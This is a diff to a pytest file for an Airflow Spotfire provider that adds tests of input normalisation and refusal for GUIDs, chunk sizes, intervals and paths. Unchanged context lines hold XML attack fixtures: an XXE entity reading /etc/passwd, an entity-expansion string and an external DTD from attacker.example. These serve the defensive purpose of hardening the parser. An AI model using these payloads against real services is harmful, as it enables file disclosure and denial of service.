@@ -21,6 +21,7 @@ from typing import Any
 
 import pytest
 
+from airflow_provider_spotfire import _validation as validate
 from airflow_provider_spotfire._http import RetryPolicy
 from airflow_provider_spotfire.api.automation import AutomationJobSource, BusyRetry
 from airflow_provider_spotfire.emulator import seed
@@ -40,6 +41,7 @@ from airflow_provider_spotfire.triggers.library import SpotfireUploadJobTrigger
 SBDF_HEADER = b"\xdf\x5b\x01\x01\x00"
 JOB_PATH = "/Airflow/Jobs/Export Finance Report"
 ITEM_PATH = "/Airflow/Reports/bad-input"
+SEED_GUID = "491647ba-99f9-43d0-a6ad-776a474ade28"
 XXE_FILE = '<?xml version="1.0"?><!DOCTYPE as [<!ENTITY x SYSTEM "file:///etc/passwd">]><as:Job>&x;</as:Job>'
 XXE_INTERNAL = '<!DOCTYPE as [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><as:Job>&b;</as:Job>'
 XXE_PARAMETER = '<!DOCTYPE as SYSTEM "http://attacker.example/evil.dtd"><as:Job/>'
@@ -524,3 +526,36 @@ def test_deferrable_task_with_a_db_only_connection_under_dag_test_names_the_work
     assert [j["status"] for j in jobs] == ["Canceled"], (
         "the job the task started is aborted, not left running"
     )
+
+
+@pytest.mark.parametrize(
+    ("check", "value", "expected"),
+    [
+        (
+            lambda v: validate.guid("library_id", v),
+            "{491647BA-99F9-43D0-A6AD-776A474ADE28}",
+            SEED_GUID,
+        ),
+        (lambda v: validate.guid("library_id", v), f" {SEED_GUID} ", SEED_GUID),
+        (validate.chunk_size, " 8388608 ", 8 * 1024 * 1024),
+        (validate.chunk_size, 4096.0, 4096),
+        (lambda v: validate.seconds("poll_interval", v), " 2.5 ", 2.5),
+        (lambda v: validate.seconds("poll_interval", v, allow_zero=True), 0, 0.0),
+        (validate.keywords, "sales, daily,,", ["sales", "daily"]),
+        (lambda v: validate.library_path(v), " /Airflow/Reports/sales ", "/Airflow/Reports/sales"),
+        (
+            lambda v: validate.license_function_names(v),
+            "viewMetrics, editMetrics",
+            ["viewMetrics", "editMetrics"],
+        ),
+        (lambda v: validate.license_function_names(v), '["a"]', '["a"]'),  # left to the literal parser
+    ],
+)
+def test_accepted_forms_are_normalised(check, value, expected) -> None:
+    assert check(value) == expected
+
+
+@pytest.mark.parametrize("value", [True, None, [], "5s", "1e400", -0.5])
+def test_seconds_refuses_what_is_not_a_finite_positive_number(value) -> None:
+    with pytest.raises(SpotfireConfigurationError, match=r"^poll_interval must be "):
+        validate.seconds("poll_interval", value)
